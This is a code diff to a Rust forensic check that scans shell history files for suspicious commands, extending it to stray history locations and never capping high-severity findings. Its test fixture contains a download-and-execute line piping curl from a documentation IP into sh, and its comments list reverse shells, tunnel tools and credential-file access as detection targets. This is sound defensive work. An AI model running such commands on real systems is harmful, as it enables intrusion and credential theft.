@@ -3,7 +3,9 @@
 //!
 //! **What it looks at:** every history file of every home (`~/.bash_history`, zsh, fish, sh/ash,
 //! python, mysql, psql, redis-cli, less, viminfo — see `huoyan_artifacts::history`) of every
-//! account, `/root`, and orphaned directories under `/home`. Each entry goes through
+//! account, `/root`, orphaned directories under `/home`, and the stray places where shells with
+//! no usable HOME write theirs (`/`, `/tmp`, `/var/tmp`, `/dev/shm`; the user is the file's
+//! owner). Each entry goes through
 //! `huoyan_cmdscan`: reverse shells, download-and-execute, `chmod +x` and `./` from /tmp or
 //! hidden directories, compilers, tunnels and scanners (nmap, masscan, frp, ngrok, socat,
 //! ssh -D/-R, proxychains, fscan), credential access (/etc/shadow, id_rsa, mimipenguin), hidden
@@ -31,8 +33,12 @@ use crate::Context;
 /// See the module documentation.
 pub struct SuspiciousHistoryCommand;
 
-/// At most this many findings per history file (a history full of `make` is not 5,000 findings).
-pub const MAX_FINDINGS_PER_FILE: usize = 300;
+/// Directories outside any home where histories of hijacked service shells end up.
+const STRAY_HISTORY_DIRS: &[&str] = &["/", "/tmp", "/var/tmp", "/dev/shm"];
+
+/// At most this many low-severity findings per history file (a history full of `make` is not
+/// 5,000 findings). Medium-or-worse entries are always reported.
+pub const MAX_LOW_FINDINGS_PER_FILE: usize = 300;
 
 static INFO: CheckInfo = CheckInfo {
     id: "history.suspicious_command",
@@ -55,7 +61,22 @@ impl Check for SuspiciousHistoryCommand {
     }
 
     fn run(&self, ctx: &Context, out: &mut Outcome) {
-        for home in crate::homes::homes(ctx) {
+        let mut places: Vec<(String, String, bool)> = crate::homes::homes(ctx)
+            .into_iter()
+            .map(|h| (h.user, h.path, h.orphaned))
+            .collect();
+        // Shells started by a webshell or an exploit often run with HOME unset or pointing at
+        // a scratch directory, so their history lands here; the owner comes from the file.
+        for dir in STRAY_HISTORY_DIRS {
+            places.push((String::new(), dir.to_string(), false));
+        }
+        for (user, path, orphaned) in places {
+            let home = crate::homes::Home {
+                user,
+                path,
+                orphaned,
+                shell: None,
+            };
             let (files, errors) = read_user_histories(&ctx.root, &home.user, &home.path);
             for e in &errors {
                 out.gap_from(INFO.id, e, true);
@@ -70,7 +91,10 @@ impl Check for SuspiciousHistoryCommand {
                             .into(),
                     });
                 }
-                let mut reported = 0usize;
+                // Low hits (a compiler run, a `systemctl enable`) are capped per file; alerts
+                // never are, so padding a history with noise cannot hide a reverse shell.
+                let mut low_reported = 0usize;
+                let mut low_dropped = 0usize;
                 for entry in &file.entries {
                     if !ctx.window.contains(entry.time) {
                         continue;
@@ -79,21 +103,22 @@ impl Check for SuspiciousHistoryCommand {
                     if hits.is_empty() {
                         continue;
                     }
-                    if reported >= MAX_FINDINGS_PER_FILE {
-                        out.gap(Gap {
-                            area: INFO.id.into(),
-                            path: Some(file.path.clone()),
-                            reason: GapReason::Truncated,
-                            detail: format!(
-                                "more than {MAX_FINDINGS_PER_FILE} suspicious entries; the rest are not reported"
-                            ),
-                        });
-                        break;
+                    if !hits.iter().any(|h| h.is_alert()) {
+                        if low_reported >= MAX_LOW_FINDINGS_PER_FILE {
+                            low_dropped += 1;
+                            continue;
+                        }
+                        low_reported += 1;
                     }
+                    let owner = if home.user.is_empty() {
+                        ctx.users().user_label(file.meta.uid)
+                    } else {
+                        home.user.clone()
+                    };
                     let source = CommandSource {
                         path: &file.path,
                         line: entry.line,
-                        user: Some(&home.user),
+                        user: Some(&owner),
                         time: entry.time,
                         what: "history entry",
                     };
@@ -103,8 +128,18 @@ impl Check for SuspiciousHistoryCommand {
                             obj.insert("orphaned_home".into(), serde_json::json!(home.orphaned));
                         }
                         out.add(f.at(entry.time));
-                        reported += 1;
                     }
+                }
+                if low_dropped > 0 {
+                    out.gap(Gap {
+                        area: INFO.id.into(),
+                        path: Some(file.path.clone()),
+                        reason: GapReason::Truncated,
+                        detail: format!(
+                            "{low_dropped} more low-severity entries (compilers, edits …) not reported; \
+                             every medium-or-worse entry was"
+                        ),
+                    });
                 }
             }
         }
@@ -163,6 +198,23 @@ mod tests {
             .expect("zsh finding");
         assert_eq!(revshell.severity, Severity::Critical);
         assert_eq!(revshell.users, ["root"]);
+    }
+
+    #[test]
+    fn stray_histories_are_read_with_their_owner() {
+        let (_d, ctx) = ctx_with(&[(
+            "/tmp/.bash_history",
+            b"id\ncurl -s http://198.51.100.4/x | sh\n",
+        )]);
+        let mut out = Outcome::default();
+        SuspiciousHistoryCommand.run(&ctx, &mut out);
+        let f = out
+            .findings
+            .iter()
+            .find(|f| f.paths == ["/tmp/.bash_history"])
+            .expect("stray history");
+        assert_eq!(f.evidence["line"], 2);
+        assert_eq!(f.users.len(), 1);
     }
 
     #[test]
